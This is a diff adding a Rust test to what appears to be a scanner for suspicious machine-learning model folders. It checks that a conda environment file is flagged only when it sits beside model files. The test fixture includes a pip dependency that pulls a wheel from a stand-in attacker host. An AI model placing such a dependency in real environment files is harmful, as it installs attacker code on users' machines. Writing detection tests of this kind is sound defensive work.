@@ -336,6 +336,23 @@ fn remote_code_without_a_commit_is_said() {
 }
 
 #[test]
+fn requirements_count_where_the_folder_is_a_models() {
+    let address = "dependencies:\n- pip: [evil @ https://attacker.example/evil.whl]\n";
+    let of =
+        |scene: Scene| rules(&scene.file("srv/x/conda.yaml", address).conclude(), "suspicious-model").len();
+    let beside = |name: &str, content: &[u8]| Scene::new().file(&format!("srv/x/{name}"), content);
+    assert_eq!(of(beside("MLmodel", b"flavors: {sklearn: {}}\nmodel_uuid: x\n")), 1);
+    assert_eq!(of(beside("config.json", CONFIG.as_bytes()).file("srv/x/model.safetensors", weights())), 1);
+    // An environment of any other program.
+    assert_eq!(of(Scene::new()), 0);
+    assert_eq!(of(beside("model.safetensors", &weights())), 0);
+    assert_eq!(of(beside("config.json", CONFIG.as_bytes())), 0);
+    let damaged = Scene::new().file("srv/x/conda.yaml", "dependencies: [").conclude();
+    let told = format!("{:?}", damaged.diagnostics);
+    assert!(!told.contains("conda.yaml"), "what is no model's is nobody's business: {told}");
+}
+
+#[test]
 fn names_that_are_almost_well_known_are_told_from_those_that_are() {
     let cases: BTreeMap<&str, Option<&str>> = BTreeMap::from([
         ("meta-llama", None),
